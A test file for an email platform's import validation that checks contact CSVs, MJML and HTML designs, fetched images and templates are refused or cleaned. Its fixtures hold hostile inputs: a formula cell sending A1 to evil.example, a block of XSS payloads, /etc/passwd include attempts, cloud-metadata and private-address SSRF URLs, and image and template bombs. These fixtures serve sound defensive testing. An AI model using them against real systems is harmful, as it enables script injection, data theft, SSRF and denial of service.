// Bad content in everything that accepts content: files of contacts, designs, their images, their templates. Content that cannot be
// used is refused with its place and its reason, in bounded time and memory, and changes neither the tables nor the folder of
// images. Content that can be used without its bad parts is accepted without them, and the report lists them. jsx_sandbox.test.mjs
// tests designs that are programs.

import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, describe, test } from 'node:test';
import { sql } from '../../lib/database.mjs';
import { png } from '../../lib/images.mjs';
import {
  LIMIT, accepts, design, file, images, imported, installation, leavesNothing, local, refuses, rest, storedFiles,
} from './content_fixture.mjs';

// ---- CSV ----

describe('files of contacts', LIMIT, () => {
  const refused = (what, args, words, param = 'path') => refuses(what, 'import_contacts_csv', args, 'INVALID_REQUEST', words, param);

  test('a million columns', async () => {
    await refused('as text', { csv: `email${',x'.repeat(999_999)}\na@example.com\n` }, /^Line 1 is longer than/, 'csv');
    await refused('without names', { csv: `email${','.repeat(999_999)}\na@example.com\n` }, /^Line 1 has 1000000 columns; an import can have at most 500/, 'csv');
    await refused('in a file of 60 MB', file('wide.csv', Buffer.alloc(60_000_000, 'email,')), /^Line 1 /);
  });

  test('a quote that never closes', async () => {
    await refused('in the header', file('open.csv', `"email,name\n${'a@example.com,A\n'.repeat(200_000)}`), /quote that opens in line 1 /);
    const others = Array.from({ length: 20_000 }, (_, i) => `open${i}@example.com,x\n`);
    const { summary, errors } = await accepts('import_contacts_csv', file('open-row.csv', `email,note\nfirst@example.com,x\nbad@example.com,"y\n${others.join('')}`));
    assert.deepEqual([summary.inserted, summary.failed], [others.length + 1, 1], 'it takes no other row with it');
    assert.equal(errors[0].line, 3);
    assert.match(errors[0].message, /quote that opens in line 3 does not close/);
  });

  test('mixed encodings', async () => {
    const rows = ['email,firstName', 'mix1@example.com,J\u00fcrgen', 'mix2@example.com,', 'mix3@example.com,C'];
    const bytes = rows.map((row) => Buffer.from(`${row}\n`));
    bytes[2] = Buffer.from('mix2@example.com,J\u00fcrgen\n', 'latin1');
    const { summary, errors } = await accepts('import_contacts_csv', file('mixed.csv', Buffer.concat(bytes)));
    assert.deepEqual([summary.inserted, summary.failed], [2, 1]);
    assert.equal(errors[0].line, 3);
    assert.match(errors[0].message, /encoding/);
    assert.deepEqual(await sql(installation, "select email_key, first_name from contacts where email_key like 'mix%' order by 1"),
      ['mix1@example.com|J\u00fcrgen', 'mix3@example.com|C']);
  });

  test('formula cells are texts, and harmless in the file of errors', async () => {
    const formula = '=HYPERLINK("https://evil.example?"&A1)';
    const quoted = `"${formula.replaceAll('"', '""')}"`;
    const { importId, summary } = await accepts('import_contacts_csv', { csv: `email,formulaNote\nf1@example.com,${quoted}\nno address,${quoted}\n` });
    assert.deepEqual([summary.inserted, summary.failed], [1, 1]);
    assert.deepEqual(await sql(installation, "select custom_fields->>'formulaNote' from contacts where email_key = 'f1@example.com'"), [formula]);
    const { result } = await local.request('resources/read', { uri: `posthorn://imports/${importId}/errors` });
    assert.match(result.contents[0].text, /\r\nno address,"'=HYPERLINK/);
  });

  test('duplicate headers, no address, no text', async () => {
    await refused('twice', { csv: 'email,Plan,plan\na@example.com,x,y\n' }, /^Columns 2 \("Plan"\) and 3 \("plan"\) both map to the field plan/, 'csv');
    await refused('two addresses', { csv: 'E-Mail,email\na@example.com,b@example.com\n' }, /^Columns 1 .* and 2 .* both map/, 'csv');
    await refused('no address', { csv: 'name,town\nAnn,Rome\n' }, /No column contains the email address/, 'csv');
    await refused('a workbook', file('book.csv', Buffer.from('PK\x03\x04rest of a workbook')), /workbook/);
    await refused('NUL bytes', file('nul.csv', Buffer.from('email,na\0me\na@example.com,A\n')), /^Line 1 contains a NUL character/);
    await refused('nothing but NUL bytes', file('nuls.csv', Buffer.alloc(5_000_000)), /^Line 1 is longer than/);
  });
});

// ---- Designs ----

const inMjml = (content) => `<mjml><mj-body>\n<mj-section><mj-column>\n${content}\n</mj-column></mj-section></mj-body></mjml>`;

describe('MJML', LIMIT, () => {
  test('reaches no file', async () => {
    for (const path of ['/etc/passwd', './header.mjml', 'file:///etc/passwd']) {
      await design('mjml', `include of ${path}`, `<mjml><mj-body>\n<mj-include path="${path}" /></mj-body></mjml>`, /^Line 2: mj-include is not available/);
    }
    await design('mjml', 'include of HTML', inMjml('<mj-include type="html" path="/etc/passwd"></mj-include>'), /^Line 3: mj-include/);
    await design('mjml', 'include in capitals', inMjml('<MJ-INCLUDE path="/etc/passwd" />'), /^Line 3: /);
    const { html, assetReport } = await imported('mjml', inMjml('<mj-text>Text</mj-text><mj-image src="file:///etc/passwd" /><mj-image src="/etc/passwd" />'));
    assert.equal(assetReport.rehosted, 0);
    assert.doesNotMatch(html, /root:|file:/);
  });

  test('nests and grows within bounds', async () => {
    await design('mjml', 'deep', `<mjml><mj-body>${'<mj-wrapper>'.repeat(20_000)}${'</mj-wrapper>'.repeat(20_000)}</mj-body></mjml>`, /nested deeper than 100/);
    await design('mjml', 'many', inMjml('<mj-text>x</mj-text>\n'.repeat(60_000)), /more than \d+ elements/);
    await design('mjml', 'unclosed', '<mjml><mj-body>\n<mj-section>', /^Line 2: <mj-section> is never closed/);
    await design('mjml', 'nothing', 'just text', /no <mjml> element/);
  });
});

describe('HTML', LIMIT, () => {
  /** Each of these is gone afterwards. */
  const ACTIVE = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
    <link rel="stylesheet" href="https://evil.example/a.css"><script>steal()</script><style>p { color: red; behavior: url(x.htc) } @import url(https://evil.example/b.css);</style></head>
    <body onload="steal()"><p onclick="steal()" style="width: expression(steal()); background: url(javascript:steal())">Text</p>
    <form action="https://evil.example"><input name="password"><button>Go</button></form>
    <a href="javascript:steal()">one</a> <a href="JaVa&#x09;script:steal()">two</a> <a href=" &#1;javascript:steal()">three</a> <a href="vbscript:steal()">four</a>
    <a href="data:text/html,<script>steal()</script>">five</a> <a href="https://example.com/fine">six</a>
    <iframe src="https://evil.example" srcdoc="<script>steal()</script>"></iframe><object data="x.swf"></object><embed src="x.swf">
    <svg onload="steal()"><script>steal()</script><a xlink:href="javascript:steal()">x</a></svg><math><mtext><script>steal()</script></mtext></math>
    <!--[if mso]><script>steal()</script><table onmouseover="steal()"><tr><td>Office</td></tr></table><![endif]-->
    <img src="javascript:steal()" onerror="steal()"><noscript><p title="</noscript><script>steal()</script>">n</p></noscript></body></html>`;
  const RESIDUE = /<script|steal|javascript:|vbscript:|on(load|click|error|mouseover)=|<form|<input|<iframe|<object|<embed|<svg|<base|http-equiv="refresh"|expression\(|behavior|@import|evil\.example|data:text/i;

  test('with scripts, forms, handlers and javascript: links is made safe, and says so', async () => {
    const wrapped = {
      html: ACTIVE,
      mjml: inMjml(`<mj-text>Text</mj-text><mj-raw>${/<body[^>]*>([^]*)<\/body>/.exec(ACTIVE)[1]}</mj-raw>`),
      jsx: `const active = ${JSON.stringify(ACTIVE)};\nexport default () => <html><body><p>Text</p><div dangerouslySetInnerHTML={{ __html: active }} /></body></html>;`,
    };
    for (const [format, content] of Object.entries(wrapped)) {
      const { html, assetReport } = await imported(format, content);
      assert.doesNotMatch(html, RESIDUE, format);
      for (const words of ['Text', 'https://example.com/fine']) assert.ok(html.includes(words), `${format}: ${words}`);
      assert.ok(assetReport.warnings.some((warning) => /script/.test(warning)), `${format}: ${assetReport.warnings.join('\n')}`);
    }
  });

  test('nests and grows within bounds', async () => {
    await design('html', 'deep', `${'<div>'.repeat(20_000)}x${'</div>'.repeat(20_000)}`, /nested deeper than 512 elements/);
    await design('html', 'many', '<b>x</b>'.repeat(60_000), /more than 50000 elements/);
    await design('html', 'nothing', '<script>steal()</script>', /no text or image left/);
  });
});

// ---- Images ----

describe('images', LIMIT, () => {
  /** Answers each path differently from request to request. */
  let asked;
  const turning = http.createServer((request, response) => {
    const times = (asked.get(request.url) ?? 0) + 1;
    asked.set(request.url, times);
    if (request.url === '/moves.png') response.writeHead(302, { location: times === 1 ? '/turns.png' : 'http://10.0.0.1/turns.png' });
    else if (times === 1) response.write(png(13, 17));
    else response.write('<script>steal()</script>');
    response.end();
  });
  let base;

  before(async () => {
    asked = new Map();
    await new Promise((resolve) => { turning.listen(0, '127.0.0.1', resolve); });
    base = `http://127.0.0.1:${turning.address().port}`;
  });

  after(() => turning.close());

  test('bombs and redirects to private addresses stay outside, and the report names them', async () => {
    const hostile = [[`${images.base}/huge.png`, /more than 40 million pixels/], [`${images.base}/many-frames.gif`, /more than 300 frames/],
      [`${images.base}/many-pixels.gif`, /pixels together/], [`${images.base}/zip-bomb`, /compressed/], [`${images.base}/endless`, /too large/],
      [`${images.base}/to?url=${encodeURIComponent('http://10.0.0.1/a.png')}`, /not on the public internet/],
      [`${images.base}/to?url=${encodeURIComponent('http://169.254.169.254/latest/')}`, /not on the public internet/],
      [`${images.base}/to?url=${encodeURIComponent('http://[fd00:ec2::254]/')}`, /not on the public internet/],
      [`${images.base}/round`, /redirects too often/]];
    const files = storedFiles();
    const { assetReport } = await imported('html', `<p>Text</p>${hostile.map(([url]) => `<img src="${url}">`).join('')}`);
    assert.equal(assetReport.rehosted, 0);
    for (const [url, reason] of hostile) assert.match(assetReport.warnings.find((text) => text.includes(`${url} `)) ?? `nothing about ${url}`, reason);
    assert.deepEqual(storedFiles(), files);
  });

  test('that change under a redirect are what they were when they were checked', async () => {
    const first = await imported('html', `<p>Text</p><img src="${base}/moves.png"><img src="${base}/moves.png">`);
    assert.deepEqual([first.assetReport.rehosted, asked.get('/moves.png'), asked.get('/turns.png')], [1, 1, 1], 'each address is asked once');
    const [path] = /\/assets\/[0-9a-z]+\.png/.exec(first.html);
    const files = storedFiles();
    const second = await imported('html', `<p>Text</p><img src="${base}/moves.png"><img src="${base}/turns.png">`);
    assert.deepEqual([second.assetReport.rehosted, second.assetReport.stripped, second.assetReport.dropped], [0, 1, 1]);
    assert.doesNotMatch(second.html, /steal|10\.0\.0\.1|\/turns\.png/);
    assert.deepEqual(storedFiles(), files);
    assert.equal((await rest.get(path)).status, 200, 'the copy of the first stays');
  });

  test('of a design that is refused are not kept', async () => {
    await refuses('good images, bad template', 'import_email', { content: `<p>{% for x in %}</p><img src="${images.base}/other.png">` }, 'INVALID_REQUEST',
      /^Line 1, column \d+: \{% for x in %\}: a name is missing/);
    assert.equal(images.hits.get('/other.png'), undefined, 'nor asked for');
  });
});

// ---- Templates ----

describe('templates', LIMIT, () => {
  const bad = (what, html, words) => refuses(what, 'import_email', { content: `<p>first line</p>\n${html}` }, 'INVALID_REQUEST', words);
  const nest = (open, close, times) => `<p>${open.repeat(times)}x${close.repeat(times)}</p>`;

  test('that nest without end, or end nowhere, are refused at their place', async () => {
    await bad('nested conditions', nest('{% if a %}', '{% endif %}', 5000), /^Line 2, column 84: \{% if a %\}: tags are nested more than 8 levels deep/);
    await bad('nested loops', nest('{% for a in b %}', '{% endfor %}', 100), /^Line 2, column 132: \{% for a in b %\}: tags are nested more than 8 levels deep/);
    await bad('a loop that does not end', '<p>{% for a in b %}{{ a }}</p>', /^Line 2, column 4: \{% for a in b %\}: it has no \{% endfor %\}/);
    await bad('an end of nothing', '<p>{% endfor %}</p>', /^Line 2, column 4: \{% endfor %\}: there is no open block for it to end/);
    await bad('an unknown filter', '<p>{{ firstName | upcse }}</p>', /^Line 2, column 4: .*there is no filter 'upcse', did you mean 'upcase'/);
    await bad('a path without end', `<p>{{ ${'a.'.repeat(800)}a }}</p>`, /^Line 2, column 4: .*the expression is too long/);
    await design('html', 'tags without number', '<p>{{ a }}</p>'.repeat(12_000), /more than 10000 template expressions/);
  });

  test('that loop without end are ended with one recipient', async () => {
    const endless = [
      ['{% for i in (1..1000000000) %}x{% endfor %}', /A range of this template has more than 1000 numbers/],
      ['{% for i in (1..900) %}{% for j in (1..900) %}x{% endfor %}{% endfor %}', /The loops of this template run more than 1000 times/],
      ['{% assign t = "xxxxxxxxxx" %}{% for i in (1..900) %}{% assign t = t | append: t %}{% endfor %}{{ t }}', /The filters of this template produce more than 1048576 bytes/],
      ['{% assign t = "x" %}{% for i in (1..15) %}{% assign t = t | append: t %}{% endfor %}{% for i in (1..900) %}{{ t }}{% endfor %}', /text is larger than 524288 bytes/],
    ];
    for (const [html, words] of endless) {
      const { emailId } = await accepts('import_email', { content: `<p>${html}</p>` });
      await leavesNothing(html, async () => {
        const { ok, body } = await local.tool('get_email', { emailId, sample: { firstName: 'Ann' } });
        assert.ok(!ok && body.error.code === 'INVALID_REQUEST', JSON.stringify(body));
        assert.match(body.error.message, words);
        const sent = await local.tool('send_email', { emailId, test: true, to: ['me@example.com'], subject: 'Endless' });
        assert.ok(!sent.ok, JSON.stringify(sent.body));
        assert.match(sent.body.error.message, words);
        assert.deepEqual(installation.outbox(), []);
      });
    }
  });
});
